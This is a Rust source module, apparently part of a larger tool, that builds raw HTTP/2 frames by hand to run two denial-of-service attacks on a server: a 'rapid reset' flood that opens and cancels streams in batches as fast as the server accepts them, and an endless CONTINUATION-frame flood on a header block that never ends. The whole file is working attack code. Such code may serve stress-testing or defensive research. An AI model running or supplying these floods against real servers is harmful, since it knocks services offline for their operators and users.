//! Attacks over HTTP/2 with prior knowledge, in frames of their own: no client library would.

use std::io;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET http://a/`: three of HPACK's static table, and the authority.
const BLOCK: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'a'];
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams in one write.
const BATCH: usize = 50;

/// Opens streams and resets them, as fast as the server takes it.
pub(super) async fn rapid_reset(stream: TcpStream, begins: impl FnOnce()) -> io::Result<()> {
    let mut next = 1_u32;
    flood(stream, begins, |bytes| {
        for _ in 0..BATCH {
            frame(bytes, HEADERS, END_STREAM | END_HEADERS, next, BLOCK);
            frame(bytes, RST_STREAM, 0, next, &CANCEL);
            next += 2;
        }
    })
    .await
}

/// Begins a header block and goes on with it for ever.
pub(super) async fn continuations(stream: TcpStream, begins: impl FnOnce()) -> io::Result<()> {
    // A literal that is not to be indexed: `x: yyy…`.
    let mut header = vec![0x00, 1, b'x', 100];
    header.extend_from_slice(&[b'y'; 100]);
    let headers = header.repeat(100);
    let mut begun = false;
    flood(stream, begins, |bytes| {
        if !begun {
            frame(bytes, HEADERS, END_STREAM, 1, BLOCK);
            begun = true;
        }
        frame(bytes, CONTINUATION, 0, 1, &headers);
    })
    .await
}

async fn flood(
    mut stream: TcpStream,
    begins: impl FnOnce(),
    mut batch: impl FnMut(&mut Vec<u8>),
) -> io::Result<()> {
    stream.write_all(PREFACE).await?;
    let mut bytes = Vec::new();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    stream.write_all(&bytes).await?;
    begins();
    let (mut read, mut write) = stream.split();
    let send = async {
        loop {
            bytes.clear();
            batch(&mut bytes);
            write.write_all(&bytes).await?;
            // The other attackers, too.
            tokio::task::yield_now().await;
        }
    };
    let receive = async {
        let mut answer = [0; 4096];
        while read.read(&mut answer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        result = send => result,
        result = receive => result,
    }
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len())
        .expect("a frame of ours is short")
        .to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}
